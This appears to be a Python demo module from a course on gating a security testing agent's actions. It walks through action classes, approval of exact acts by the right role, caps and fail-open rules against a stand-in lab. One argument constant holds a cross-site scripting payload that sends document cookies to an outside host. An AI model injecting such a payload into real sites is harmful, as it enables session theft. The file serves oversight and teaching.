"""Lesson 8's demo: the gate deciding, act by act, through lesson 8's door.

    python3 -m core.run.demo_gating --out data/course/gating-demo.json

Each scene is a small run of its own, through ``door_for(8, run, policy,
gating)`` with lesson 7's plan guard (``in_the_plan``) left out. The demo
walks each run straight to the verify stage: there no selection is asked
for, and with the plan guard out of the way the demo can hand acts to the
gate itself (in the execute stage lesson 5's guard would first ask whether
the act was chosen, and in the verify stage lesson 7's whether the operator
planned it). The scenes show, as ledger events:

* ``classes``: a known class admitted; a legacy name resolved to its
  canonical row; an unknown class consequential and denied. No door is
  built for a catalogue with old or unknown names, so this scene asks the
  same rows and guards assembled by hand, to show that the gate does not
  lean on that start-up check;
* ``exact_act``: a probe held, a review by the wrong role refused, a review
  naming the identity alone refused, the approver's review of the exact act
  admitted, the same identity with other arguments held again as a CHANGE,
  and the approved act admitted;
* ``cap``: a cap written under a legacy name binding its canonical class;
  past it a class with no approver role is denied, not held, and a class
  with one is held;
* ``fail_open``: while an earlier act's outcome is unresolved, only a class
  the table lets fail open and the run configures to proceeds, and only
  within its cap.

Everything is fixed data (no lab, no clock), so the artifact is
byte-identical on every machine.
"""

from __future__ import annotations

import sys

from core.run.commandline import demo_main
from core.run.doors import door_for
from core.run.drive import go_to
from core.run.gate import Gating, GatingError, GateState, act_subject, decide, gate_state, view_is_stale
from core.run.policy import Policy
from core.run.recorder import Recorder
from core.run.records import action_identity, make_run
from core.run.stages import STAGE

LAB = "https://lab.example"

HEADERS = {"tool_id": "inspect_headers", "activity": "recon.passive", "requires": {}, "family": "fam-recon",
           "weight": 2.0, "cost": 1.0}
METADATA = {"tool_id": "inspect_metadata", "activity": "recon.passive", "requires": {}, "family": "fam-recon",
            "weight": 3.0, "cost": 1.0}
PROBE = {"tool_id": "probe_reflection", "activity": "probe.active_light", "requires": {}, "family": "fam-probe",
         "weight": 3.0, "cost": 2.0, "arguments": {"marker": "string", "parameter": "string"}}
LISTING = {"tool_id": "list_directory", "activity": "recon.enumerate", "requires": {}, "family": "fam-recon",
           "weight": 1.0, "cost": 1.0}
# Two tools no door is built for: one declares a version 1 name, one a class no table has.
OLD_PROBE = {**PROBE, "tool_id": "probe_old_name", "activity": "active"}
FUZZER = {**PROBE, "tool_id": "fuzz_forms", "activity": "probe.fuzz"}


def policy_of(*tools: dict) -> Policy:
    """The operator's policy for one scene: the lab origin, these tools, twelve actions at most."""
    return Policy.from_dict({"reference": "training-authorization-0001", "allowed_origins": [f"{LAB}:443"],
                             "tools": list(tools), "max_actions": 12, "max_model_calls": 4})


def gating_of(caps: dict, fail_open: list | None = None) -> Gating:
    """The run's gating under taxonomy version 2."""
    return Gating.from_dict({"taxonomy_version": 2, "caps": caps, "fail_open_classes": fail_open or []})


class Scene:
    """One run of the demo: its door, and every request the demo made of it, with the answer."""

    def __init__(self, name: str, door: Recorder) -> None:
        go_to(door, "verify")  # where acts reach the gate without a selection (and, its plan guard out, a plan)
        self.name, self.door, self.steps = name, door, []
        self.first_seq = len(door.events) + 1  # the stage moves before it are not part of the story

    def act(self, key: str, note: str, tool: str, path: str, arguments: dict | None = None,
            settle: bool = True) -> dict:
        """Hand an act to the door; write down the gate's own decision for it, made just before.

        An admitted act's outcome is settled at once (``settle``), as if its
        adapter answered: an act with no settled outcome makes the gate's view stale.
        """
        door = self.door
        payload = {"run_id": door.run.run_id, "tool": tool, "destination": f"{LAB}{path}",
                   "arguments": arguments or {}}
        declared = door.policy.tool_named(tool).activity
        identity = action_identity(tool, payload["destination"])
        decision = decide(door.parts["gating"], declared, identity, act_subject(identity, payload["arguments"]),
                          gate_state(door), view_is_stale(door))
        answer = door.record("action", payload)
        if answer["recorded"] != (decision.verdict == "allow"):
            raise RuntimeError(f"the demo's decision for {identity} disagrees with the door's answer")
        step = {"key": key, "note": note, "kind": "action", "payload": payload, "declared_class": declared,
                "gate": {"verdict": decision.verdict, "action_class": decision.action_class,
                         "trigger_class": decision.trigger_class},
                "answer": answer, "seq": len(door.events)}
        self.steps.append(step)
        if answer["recorded"] and settle:
            self.outcome("its outcome settles", answer["id"], "succeeded")
        return answer

    def review(self, key: str, note: str, subject: str, reviewer: str, decision: str = "approved") -> dict:
        door = self.door
        payload = {"run_id": door.run.run_id, "subject_id": subject, "decision": decision, "reviewer": reviewer,
                   "reason": "read the exact request before deciding"}
        answer = door.record("review", payload)
        self.steps.append({"key": key, "note": note, "kind": "review", "payload": payload, "answer": answer,
                           "seq": len(door.events)})
        return answer

    def outcome(self, note: str, action_id: str, status: str, detail: str = "") -> dict:
        door = self.door
        payload = {"run_id": door.run.run_id, "action_id": action_id, "status": status, "detail": detail}
        answer = door.record("outcome", payload)
        if not answer["recorded"]:
            raise RuntimeError(f"the demo's outcome for {action_id} was refused: {answer['reason']}")
        self.steps.append({"key": "", "note": note, "kind": "outcome", "payload": payload, "answer": answer,
                           "seq": len(door.events)})
        return answer

    def step(self, key: str) -> dict:
        return next(step for step in self.steps if step["key"] == key)

    def done(self, **extra: object) -> dict:
        state = gate_state(self.door)
        return {"scene": self.name, "run_id": self.door.run.run_id, "gating": self.door.parts["gating"].snapshot(),
                "tools": {tool.tool_id: tool.activity for tool in self.door.policy.tools}, **extra,
                "steps": self.steps, "ledger": self.door.events[self.first_seq - 1:],
                "counted": {"used": dict(sorted(state.used.items())),
                            "trigger_classes": dict(sorted(state.triggers.items()))}}


WITHOUT = ("in_the_plan",)  # lesson 7's guard, which would ask whether the operator planned each act


def new_door(world: str, policy: Policy, gating: Gating) -> Recorder:
    return door_for(8, make_run(policy.snapshot(), {"world": world}), policy, gating, without=WITHOUT)


# --- the scenes ---------------------------------------------------------------------------------


def classes_scene() -> dict:
    """A known class, a legacy name and an unknown class, each judged by the gate."""
    policy, gating = policy_of(HEADERS, OLD_PROBE, FUZZER), gating_of({"recon.passive": 10})
    run = make_run(policy.snapshot(), {"world": "gating-demo-classes"})
    try:
        door_for(8, run, policy, gating)
    except GatingError as exc:
        start_up = str(exc)
    else:
        raise RuntimeError("door_for built a door for a catalogue with an old and an unknown class")
    # The same kinds and guards door_for(8) assembles, without its start-up check of the catalogue.
    reference = new_door("gating-demo-reference", policy_of(HEADERS), gating)
    door = Recorder(run, policy, reference.kinds.values(), reference.guards, **reference.parts)
    door.state[STAGE] = reference.stage  # lesson 3's state, where the door it copies starts
    scene = Scene("classes", door)
    scene.act("known_class", "a known class: recon.passive runs within its cap", "inspect_headers", "/")
    scene.act("legacy_alias", "a legacy name: 'active' is governed by its canonical row, probe.active_light", "probe_old_name",
              "/debug", {"parameter": "q", "marker": "lab-probe-1"})
    scene.act("unknown_class", "an unknown class: consequential by default, and nobody may approve it", "fuzz_forms", "/contact",
              {"parameter": "name", "marker": "lab-probe-2"})
    return scene.done(start_up_refusal=start_up)


MARKER = {"parameter": "q", "marker": "lab-probe-<i>7</i>"}
OTHER_MARKER = {"parameter": "q", "marker": "<script>fetch('//other.example/'+document.cookie)</script>"}


def exact_act_scene() -> dict:
    """A probe held, reviewed by the wrong role, approved as that exact act, amended, and admitted."""
    policy = policy_of(HEADERS, PROBE)
    scene = Scene("exact_act", new_door("gating-demo-exact-act", policy, gating_of({"recon.passive": 10})))
    probe = action_identity("probe_reflection", f"{LAB}/debug")
    subject, other = act_subject(probe, MARKER), act_subject(probe, OTHER_MARKER)
    scene.act("held", "a consequential act: held until its approver role approves this exact act", "probe_reflection",
              "/debug", MARKER)
    scene.review("wrong_role", "a review by another role: refused, the act stays held", subject, "client-liaison")
    scene.review("identity_alone", "a review naming the identity alone: not an act the gate holds", probe, "engagement-lead")
    scene.review("approved", "the approver role approves the exact act (identity and digest of arguments)", subject,
                 "engagement-lead")
    fresh = decide(scene.door.parts["gating"], "probe.active_light", probe, other, GateState())
    scene.act("other_arguments", "the same identity with other arguments: another act, held again, and a CHANGE", "probe_reflection",
              "/debug", OTHER_MARKER)
    scene.act("admitted_after_approval", "the approved act, asked again: admitted", "probe_reflection", "/debug", MARKER)
    changed = scene.step("other_arguments")["gate"]["trigger_class"]
    return scene.done(subjects={"approved": subject, "amended": other},
                      change_from_state={"on_a_fresh_run": fresh.trigger_class, "after_the_approval": changed})


def cap_scene() -> dict:
    """A cap written under a legacy name; past it, denied without an approver role, held with one."""
    policy = policy_of(HEADERS, LISTING)
    scene = Scene("cap", new_door("gating-demo-cap", policy, gating_of({"passive": 2, "recon.enumerate": 0})))
    scene.act("first_look", "the first header look: within the cap of 2", "inspect_headers", "/")
    scene.act("second_look", "the second: within the cap", "inspect_headers", "/about")
    third = action_identity("inspect_headers", f"{LAB}/contact")
    scene.act("cap_exceeded_no_approver", "the third: over the cap, and recon.passive has no approver role: denied, not held",
              "inspect_headers", "/contact")
    scene.review("denied_is_not_held", "nobody can review a denied act into running", act_subject(third, {}), "engagement-lead")
    scene.act("cap_exceeded_with_approver", "recon.enumerate over its cap of 0 has an approver role: held", "list_directory", "/backup/")
    return scene.done()


def fail_open_scene(configured: bool) -> dict:
    """While an earlier act's outcome is unresolved, only a configured fail-open class proceeds."""
    gating = gating_of({"recon.passive": 2}, ["recon.passive"] if configured else [])
    name = "fail_open_configured" if configured else "fail_open_not_configured"
    scene = Scene(name, new_door(f"gating-demo-{name}", policy_of(HEADERS, PROBE), gating))
    first = scene.act("unanswered", "an act whose adapter never answers", "inspect_headers", "/", settle=False)
    scene.outcome("its outcome stays unresolved: the gate's view is stale", first["id"], "unresolved",
                  "the adapter never answered")
    passive = scene.act("stale_passive", "a header look while the view is stale", "inspect_headers", "/about", settle=False)
    if passive["recorded"]:
        scene.act("stale_past_cap", "another header look while the view is stale: past the cap of 2",
                  "inspect_headers", "/contact", settle=False)
    scene.act("stale_probe", "a probe while the view is stale", "probe_reflection", "/debug", MARKER)
    scene.outcome("the first act's outcome settles", first["id"], "succeeded")
    if passive["recorded"]:
        scene.outcome("and the header look's", passive["id"], "succeeded")
    scene.act("view_current_again", "the probe again, with the view current: held for review as usual", "probe_reflection", "/debug",
              MARKER)
    return scene.done()


def run_demo() -> dict:
    """Every scene; return the artifact as data."""
    scenes = [classes_scene(), exact_act_scene(), cap_scene(), fail_open_scene(True), fail_open_scene(False)]
    return {"scenes": scenes, "shows": _what_it_shows({scene["scene"]: scene for scene in scenes})}


def _answer(scene: dict, key: str) -> dict:
    """One step's note and the door's answer, with the ledger seq it was written at."""
    step = next(step for step in scene["steps"] if step["key"] == key)
    return {"note": step["note"], "seq": step["seq"], **step["answer"]}


def _class(scene: dict, key: str) -> str:
    return next(step["gate"]["action_class"] for step in scene["steps"] if step["key"] == key)


def _what_it_shows(scenes: dict) -> dict:
    """The things the lesson looks for, each pointed out in its scene."""
    classes, exact, cap = scenes["classes"], scenes["exact_act"], scenes["cap"]
    configured, unconfigured = scenes["fail_open_configured"], scenes["fail_open_not_configured"]
    return {
        "known_class": {**_answer(classes, "known_class"), "action_class": _class(classes, "known_class")},
        "legacy_alias": {**_answer(classes, "legacy_alias"), "declared": "active",
                         "action_class": _class(classes, "legacy_alias")},
        "unknown_class": {**_answer(classes, "unknown_class"), "declared": "probe.fuzz",
                          "action_class": _class(classes, "unknown_class")},
        "held": _answer(exact, "held"),
        "wrong_role": _answer(exact, "wrong_role"),
        "identity_alone": _answer(exact, "identity_alone"),
        "approved": _answer(exact, "approved"),
        "other_arguments": _answer(exact, "other_arguments"),
        "admitted_after_approval": _answer(exact, "admitted_after_approval"),
        "change_from_state": exact["change_from_state"],
        "cap_by_legacy_name": {"written": {"passive": 2}, "resolved": cap["gating"]["caps"]},
        "cap_exceeded_no_approver": _answer(cap, "cap_exceeded_no_approver"),
        "denied_is_not_held": _answer(cap, "denied_is_not_held"),
        "cap_exceeded_with_approver": _answer(cap, "cap_exceeded_with_approver"),
        "fail_open_configured": _answer(configured, "stale_passive"),
        "fail_open_not_configured": _answer(unconfigured, "stale_passive"),
        "fail_open_within_its_cap_only": _answer(configured, "stale_past_cap"),
        "consequential_never_fails_open": _answer(configured, "stale_probe"),
        "view_current_again": _answer(configured, "view_current_again"),
    }


def main(argv: list[str] | None = None) -> int:
    return demo_main("demo_gating", "Write lesson 8's demo artifact: the gate's decisions through lesson 8's door.",
                     run_demo, argv)


if __name__ == "__main__":
    sys.exit(main())
